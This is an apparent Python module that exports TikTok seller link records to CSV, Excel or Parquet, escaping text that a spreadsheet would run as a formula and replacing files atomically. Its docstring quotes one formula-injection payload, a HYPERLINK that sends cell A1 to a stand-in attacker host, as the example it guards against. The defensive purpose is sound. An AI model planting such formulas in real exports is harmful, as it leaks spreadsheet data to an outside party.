"""Write tables for people to open: CSV for ``.csv``, a real workbook for ``.xlsx``, Parquet for ``.parquet``.

Text cells that a spreadsheet would run as a formula — those starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return — are written with a leading apostrophe, OWASP's rule against CSV/formula injection
(https://owasp.org/www-community/attacks/CSV_Injection). A TikTok display name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` therefore arrives as text. Numbers and dates are untouched.
An empty table keeps its header row. Times are written in UTC (workbooks cannot hold a time zone).

Example:
    >>> from pathlib import Path
    >>> import tempfile
    >>> path = Path(tempfile.mkdtemp()) / "links.csv"
    >>> write_table([{"username": "=1+1", "gmv": -5}], path, columns=["username", "gmv"])
    1
    >>> path.read_text(encoding="utf-8").splitlines()
    ['username,gmv', "'=1+1,-5"]
"""

from __future__ import annotations

import csv
import io
import logging
import os
import secrets
from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pandas as pd

from linkkit.errors import DataFormatError

__all__ = ["FORMATS", "LINK_INTERVAL_COLUMNS", "neutralise", "neutralise_frame", "write_table"]

log = logging.getLogger(__name__)

#: The file extensions :func:`write_table` writes.
FORMATS = (".csv", ".xlsx", ".parquet")

#: The columns of ``linkkit export`` (one row per link that Seller Center bound), in order.
LINK_INTERVAL_COLUMNS = (
    "link_id", "shop_id", "shop_name", "region", "account_open_id", "username", "display_name", "role",
    "linked_at", "unlinked_at",
)

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells are :func:`neutralise`-d (numbers untouched)."""
    out = frame.copy()
    for name in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[name]) or pd.api.types.is_datetime64_any_dtype(out[name])):
            out[name] = out[name].astype(object).map(neutralise)
    return out


def _cell(value: Any) -> Any:
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None) if value.tzinfo else value
    if isinstance(value, date) or value is None or isinstance(value, bool | int | float):
        return value
    if hasattr(value, "value") and isinstance(value.value, str):  # enums such as Role
        value = value.value
    return neutralise(str(value))


def _columns(rows: Sequence[Mapping[str, Any]], columns: Iterable[str]) -> list[str]:
    names = list(columns)
    for row in rows:
        names.extend(key for key in row if key not in names)
    return names


def write_table(rows: Sequence[Mapping[str, Any]], path: Path | str, *, columns: Iterable[str]) -> int:
    """Write ``rows`` to ``path`` in the format its extension names; returns the number of rows.

    Args:
        rows: One mapping per row.
        path: Where to write; ``.csv``, ``.xlsx`` or ``.parquet``.
        columns: The columns, in order, written even when ``rows`` is empty (keys not listed are appended).

    Raises:
        DataFormatError: The extension is not one of :data:`FORMATS` (nothing is written).
        OSError: The file cannot be written (nothing is left behind: the table goes to a new file beside
            ``path`` that replaces it only once complete, so a failure leaves an existing file as it was).
    """
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in FORMATS:
        raise DataFormatError(f"Cannot export to {path.name!r}: unknown file type {suffix or '(none)'}",
                              expected="a name ending in " + ", ".join(FORMATS))
    names = _columns(rows, columns)
    table = [[_cell(row.get(name)) for name in names] for row in rows]
    if path.exists() and not path.is_file():  # a device or a pipe (a directory fails at open): write in place
        _write(suffix, names, table, path, path.stem)
    else:
        _write_replacing(suffix, names, table, path)
    log.info("wrote %d rows to %s", len(table), path)
    return len(table)


def _write_replacing(suffix: str, names: list[str], table: list[list[Any]], path: Path) -> None:
    """Write to a new file beside ``path`` (created with the umask's mode), then rename it over ``path``."""
    part = path.with_name(f".{path.name}.{secrets.token_hex(4)}.part")
    os.close(os.open(part, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
    try:
        _write(suffix, names, table, part, path.stem)
        os.replace(part, path)
    except BaseException:
        part.unlink(missing_ok=True)
        raise


def _write(suffix: str, names: list[str], table: list[list[Any]], path: Path, title: str) -> None:
    # Every format writes through a file this function opened and closes: a writer that fails half-way (a full
    # disk) then leaves neither an open handle behind nor deletes what ``path`` named (pyarrow removes its output
    # file on failure, even a symlink to a device).
    if suffix == ".csv":
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(names)
            writer.writerows([["" if v is None else (v.isoformat() if isinstance(v, date) else v) for v in r]
                              for r in table])
        return
    buffer = io.BytesIO()
    if suffix == ".xlsx":
        from openpyxl import Workbook

        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.title = title[:31] or "export"
        sheet.append(names)
        for values in table:
            sheet.append(values)
        book.save(buffer)
    else:
        import pyarrow as pa
        import pyarrow.parquet as pq

        columns_data = {name: [row[i] for row in table] for i, name in enumerate(names)}
        pq.write_table(pa.table(columns_data) if table else pa.table({n: pa.array([], pa.string()) for n in names}),
                       buffer)
    with path.open("wb") as handle:
        handle.write(buffer.getvalue())
